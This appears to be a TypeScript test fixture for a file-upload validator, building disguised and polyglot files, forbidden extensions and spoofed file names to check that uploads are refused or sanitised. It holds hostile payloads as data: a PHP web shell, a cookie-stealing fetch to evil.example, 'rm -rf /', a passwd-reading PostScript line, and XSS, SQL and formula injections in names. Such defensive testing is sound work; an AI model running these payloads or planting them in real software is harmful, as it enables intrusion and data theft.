import { gzipSync } from 'node:zlib'
import { archive, deflated, stored } from './archives.ts'
import { plainWorkbook, workbookBombs } from './workbooks.ts'

const bytes = (text: string, length = 0): Buffer => {
  const content = Buffer.from(text, 'latin1')
  return Buffer.concat([content, Buffer.alloc(Math.max(0, length - content.length))])
}
const office = (kind: string, main: string): Buffer =>
  archive([deflated('[Content_Types].xml', `<Types><Override PartName="/${main}" ContentType="${kind}"/></Types>`), deflated(main, '<x/>')])
const ooxml = 'application/vnd.openxmlformats-officedocument.'
const cfb = '\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1'
const script = '<script>document.title = "ran"</script>'
const php = '<?php system($_GET["c"]); ?>'

/** What programs and documents begin with: enough for whoever opens them by their content. */
const kinds = {
  'a Windows program': bytes('MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff', 512),
  'a Linux program': bytes('\x7fELF\x02\x01\x01', 512),
  'a macOS program': bytes('\xcf\xfa\xed\xfe\x07\0\0\x01', 512),
  'a universal macOS program': bytes('\xca\xfe\xba\xbe\0\0\0\x02', 512),
  'a Java class': bytes('\xca\xfe\xba\xbe\0\0\0\x34', 512),
  'a Windows shortcut': bytes('\x4c\0\0\0\x01\x14\x02\0', 512),
  'an installer': bytes(cfb, 4096),
  WebAssembly: bytes('\0asm\x01\0\0\0', 64),
  Flash: bytes('CWS\x0a', 64),
  'a shell script': bytes('#!/bin/sh\nrm -rf /\n'),
  'a batch file': bytes('@echo off\r\ndel *.*\r\n'),
  JavaScript: bytes('fetch("https://evil.example/" + document.cookie)'),
  PHP: bytes(php),
  'a page': bytes(`<!doctype html><html>${script}</html>`),
  'a page after blanks': bytes(`\n\n   <html>${script}</html>`),
  'a drawing with a script': bytes(`<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`),
  'XML with a style sheet': bytes('<?xml version="1.0"?><?xml-stylesheet href="javascript:1"?><a/>'),
  'a PDF': bytes('%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF'),
  PostScript: bytes('%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n'),
  RTF: bytes('{\\rtf1{\\object\\objocx}}'),
  'an archive': archive([stored('run.exe', 'MZ')]),
  'a Java archive': archive([stored('META-INF/MANIFEST.MF', 'Main-Class: X')]),
  'a document with macros': office('application/vnd.ms-word.document.macroEnabled.main+xml', 'word/document.xml'),
  'a workbook with macros': office('application/vnd.ms-excel.sheet.macroEnabled.main+xml', 'xl/workbook.xml'),
  'a document': office(`${ooxml}wordprocessingml.document.main+xml`, 'word/document.xml'),
  'a gzip': gzipSync(php),
  'a RAR': bytes('Rar!\x1a\x07\x01\0', 64),
  'a 7-Zip': bytes("7z\xbc\xaf'\x1c\0\x04", 64),
  'a tape': Buffer.concat([bytes('run.sh', 257), bytes('ustar\x0000', 255)]),
  'a GIF': bytes('GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;'),
  'a GIF that is PHP': bytes(`GIF89a;${php}`),
  'a GIF that is JavaScript': bytes('GIF89a/*\0*/=1;alert(1)'),
  'a WebP': bytes('RIFF\x24\0\0\0WEBPVP8L', 64),
  'a TIFF': bytes('II*\0\x08\0\0\0', 64),
  'a BMP': bytes('BM\x3a\0\0\0\0\0\0\0\x36\0\0\0', 64),
  'an icon': bytes('\0\0\x01\0\x01\0', 64),
  'an AVIF': bytes('\0\0\0\x1cftypavif\0\0\0\0', 64),
  'a film': bytes('\0\0\0\x18ftypmp42\0\0\0\0', 64),
  'a database': bytes('SQLite format 3\0', 128),
  'a font': bytes('\0\x01\0\0\0\x0c\0\x80', 64),
  'the beginning of a PNG, then a page': bytes(`\x89PNG\r\n\x1a\n${script}`),
  'the head of a PNG, then PHP': bytes(`\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\0\0\0\0${php}`),
  'the beginning of a JPEG, then PHP': bytes(`\xff\xd8\xff\xe0\0\x10JFIF\0${php}`),
  'a JPEG of nothing but a comment': bytes(`\xff\xd8\xff\xfe\0\x40${script}`, 80),
  nothing: Buffer.alloc(0),
  zeros: Buffer.alloc(512),
  noise: Buffer.from(Array.from({ length: 512 }, (_, n) => (n * 167 + 41) & 255)),
} as const satisfies Record<string, Buffer>
type KindOf = keyof typeof kinds

type Named = 'png' | 'jpg' | 'jpeg' | 'pdf' | 'xlsx' | 'xls' | 'doc' | 'ppt' | 'txt' | 'csv'
const called: Record<Named, readonly KindOf[]> = {
  png: Object.keys(kinds) as KindOf[],
  jpg: [
    'a Windows program',
    'a page',
    'PHP',
    'a drawing with a script',
    'a GIF',
    'a WebP',
    'an AVIF',
    'the beginning of a JPEG, then PHP',
    'a JPEG of nothing but a comment',
    'an archive',
  ],
  jpeg: ['a Linux program', 'a TIFF', 'a BMP', 'the beginning of a PNG, then a page'],
  pdf: ['a Windows program', 'a page', 'JavaScript', 'PostScript', 'a document', 'an archive', 'a GIF', 'a drawing with a script'],
  xlsx: ['an archive', 'a Java archive', 'a document', 'a document with macros', 'a workbook with macros', 'a page', 'a PDF', 'an installer'],
  xls: ['a page', 'an installer', 'a workbook with macros', 'RTF', 'an archive'],
  doc: ['an installer', 'RTF', 'a document with macros', 'a page'],
  ppt: ['an installer', 'a Windows program'],
  txt: ['a Windows program', 'a Linux program', 'WebAssembly', 'a gzip', 'a GIF', 'a database'],
  csv: ['a Windows shortcut', 'a macOS program', 'a tape', 'an archive'],
}

export interface Disguise {
  readonly title: string
  readonly name: string
  readonly make: () => Buffer
}

/** Contents under names that say something else. */
export const wrongContents: readonly Disguise[] = [
  ...Object.entries(called).flatMap(([extension, list]) =>
    list.map((kind): Disguise => ({ title: `${kind} as .${extension}`, name: `lobby.${extension}`, make: () => kinds[kind] })),
  ),
  ...Object.entries(workbookBombs).map(([title, make]): Disguise => ({ title: `${title} as .xlsx`, name: 'people.xlsx', make })),
]

/** Kinds that are not taken, whatever is in them. */
const endings = [
  'exe dll scr com bat cmd ps1 vbs js mjs jse wsf hta msi lnk reg jar sh apk dmg html htm xhtml shtml mhtml svg svgz xml xsl php phtml php5 phar',
  'jsp asp aspx htaccess swf docm xlsm pptm xltm xlsb slk iqy rtf zip rar 7z gz tar iso gif webp bmp tiff ico avif heic url webloc eml ics vcf json md',
]
export const wrongEndings: readonly string[] = [
  ...endings.flatMap((line) => line.split(' ')),
  'ｐｎｇ',
  'p\u200Bng',
  'png:stream',
  'png ',
  'png\u202E',
  'PNG\u0000',
  'pnɡ',
  'pŉg',
  '',
].map((extension) => `lobby.${extension}`)

/** Names that are refused though the picture in them is one. */
export const wrongNames: readonly string[] = [
  'lobby.png.exe',
  'lobby.exe.png',
  'lobby.php.png',
  'lobby.png.png',
  'lobby..png',
  'lobby.php\0.png',

  'lobby.png;.html',
  '.png',
  ' .png',
  '\u202E.png',
  '\u200B\u2066.png',
  '/.png',
  'etc/passwd',
  'png',
  '',
  'lobby\u202Egnp.exe',
  '...',
  '.htaccess',
]

/** Names that are taken, and what is shown of them. */
export const oddNames: readonly (readonly [given: string, shown: RegExp])[] = [
  ['C:\\Windows\\lobby.png', /^lobby\.png$/],
  ['../../../etc/lobby.png', /^lobby\.png$/],
  ['..\\..\\lobby.png', /^lobby\.png$/],
  ['lobby\u202Egpj\u202C.png', /^lobbygpj\.png$/],
  ['lobby\u0000\u0007\u001B[2J.png', /^lobby\[2J\.png$/],
  ['lobby\uFEFF\u200B.PNG', /^lobby\.png$/],
  [`${'長'.repeat(400)}.png`, /^長{1,150}\.png$/],
  ['CON.png', /^CON\.png$/],
  ['-rf.png', /^-rf\.png$/],
  ['=cmd|x.png', /^=cmd\|x\.png$/],
  ['<img src=x onerror=alert(1)>.png', /^<img src=x onerror=alert\(1\)>\.png$/],
  ['%2e%2e%2flobby.png', /^%2e%2e%2flobby\.png$/],
  ["lobby';drop table files;--.png", /^lobby';drop table files;--\.png$/],
]

/** A true picture with something else in it or behind it; `make` is given the picture. */
export const stowaways: Readonly<Record<string, (png: Buffer) => Buffer>> = {
  'an archive behind it': (png) => Buffer.concat([png, archive([stored('stowaway.exe', 'MZ stowaway')])]),
  'a page behind it': (png) => Buffer.concat([png, bytes(`stowaway ${script}`)]),
  'PHP behind it': (png) => Buffer.concat([png, bytes(`stowaway ${php}`)]),
  'a program behind it': (png) => Buffer.concat([png, bytes('MZ stowaway', 512)]),
  'a workbook behind it': (png) => Buffer.concat([png, bytes('stowaway'), plainWorkbook()]),
  'a PDF behind it': (png) => Buffer.concat([png, bytes('%PDF-1.7 stowaway')]),
}

export const scriptText = `stowaway ${script}${php}`
/** These are what they say. They are kept as they are, and only ever saved: never shown by a browser in our name. */
export const onlySaved: readonly Disguise[] = [
  { title: 'a page as .txt', name: 'lobby.txt', make: () => kinds['a page'] },
  { title: 'JavaScript as .txt', name: 'lobby.txt', make: () => kinds.JavaScript },
  { title: 'a drawing as .csv', name: 'lobby.csv', make: () => kinds['a drawing with a script'] },
  { title: 'PHP as .csv', name: 'lobby.csv', make: () => kinds.PHP },
  { title: 'a PDF with a script', name: 'lobby.pdf', make: () => kinds['a PDF'] },
  { title: 'a PDF that goes on as a page', name: 'lobby.pdf', make: () => bytes(`%PDF-1.7\n${script}`) },
  { title: 'a workbook', name: 'people.xlsx', make: plainWorkbook },
]
